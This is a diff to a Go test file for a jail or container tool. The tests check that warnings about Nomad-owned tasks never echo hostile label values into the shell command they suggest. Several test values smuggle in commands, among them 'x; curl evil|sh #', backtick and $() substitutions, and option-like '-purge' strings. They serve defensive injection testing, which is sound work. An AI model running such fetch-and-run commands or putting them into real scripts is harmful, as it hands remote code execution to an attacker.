@@ -69,6 +69,13 @@ func TestRestartOfNomads(t *testing.T) {
 	if err := byNomad(task); err == nil || !strings.Contains(err.Error(), "nomad alloc restart -task web 1-2") {
 		t.Error(err)
 	}
+	for _, name := range []string{"x; curl evil|sh #", "-purge", "a`b`", "$(a)", "a\nb", ""} {
+		labels["task"] = name
+		want := "task x is Nomad's: `nomad alloc restart` restarts it"
+		if err := byNomad(task); err == nil || err.Error() != want {
+			t.Errorf("%q: %v", name, err)
+		}
+	}
 }
 
 func TestTag(t *testing.T) {
@@ -108,10 +115,11 @@ func TestEndOfATaskOfNomad(t *testing.T) {
 		{"cli", false, []string{"stop", "-t", "30"}}, {"cli", false, []string{"rm", "-f"}}} {
 		spec := client.TaskSpec{ID: fmt.Sprint("task", i), Owner: c.owner, Image: "prog"}
 		if c.owner == "nomad" {
-			spec.Labels = map[string]string{"alloc_id": "a1", "job": "web", "task": "one", "namespace": "team"}
+			spec.Labels = map[string]string{"alloc_id": "a1", "job": "the shop", "job_id": "web/periodic-1",
+				"task": "one", "namespace": "team"}
 		}
-		told := "warning: task " + spec.ID + " is of Nomad's job web, and Nomad may start it again: " +
-			"`nomad job stop -namespace team web`"
+		told := "warning: task " + spec.ID + " is of Nomad's job the shop, and Nomad may start it " +
+			"again: `nomad job stop -namespace team web/periodic-1` ends the job\n"
 		_, err := client.New(h.socket).Start(t.Context(), spec)
 		check(t, err)
 		r := h.freejail(append(c.args, spec.ID)...)
@@ -119,5 +127,36 @@ func TestEndOfATaskOfNomad(t *testing.T) {
 			t.Errorf("%s, %q: %+v", c.owner, c.args, r)
 		}
 		h.gives(0, nil, "rm", "-f", spec.ID)
+	}
+}
+
+// No command to copy has in it what a job's author wrote for a shell, or has the job's name for its ID.
+func TestEndOfATaskOfAHostileJob(t *testing.T) {
+	h := newHost(t, "")
+	for i, labels := range []map[string]string{
+		{"job": "web"}, // of a journal of before
+		{"job": "web", "job_id": "-purge x; curl evil|sh #"},
+		{"job": "web", "job_id": "-purge"},
+		{"job": "web", "job_id": "a`b`"},
+		{"job": "web", "job_id": "$(b)"},
+		{"job": "web", "job_id": "web", "namespace": "-x"},
+	} {
+		labels["alloc_id"] = "a1"
+		id := fmt.Sprint("task", i)
+		_, err := client.New(h.socket).Start(t.Context(),
+			client.TaskSpec{ID: id, Owner: "nomad", Image: "prog", Labels: labels})
+		check(t, err)
+		want := "freejail: warning: task " + id + " is of Nomad's job web, and Nomad may start it again: " +
+			"stopping the job ends it\n"
+		if r := h.freejail("rm", "-f", id); r.code != 0 || r.errout != want {
+			t.Errorf("%q: %+v", labels, r)
+		}
+	}
+	_, err := client.New(h.socket).Start(t.Context(), client.TaskSpec{ID: "named", Owner: "nomad", Image: "prog",
+		Labels: map[string]string{"alloc_id": "a1", "job": "`-purge x; curl evil|sh #`", "job_id": "web"}})
+	check(t, err)
+	r := h.freejail("rm", "-f", "named")
+	if strings.Count(r.errout, "`") != 2 || !strings.Contains(r.errout, "`nomad job stop -namespace default web` ends") {
+		t.Errorf("%+v", r)
 	}
 }
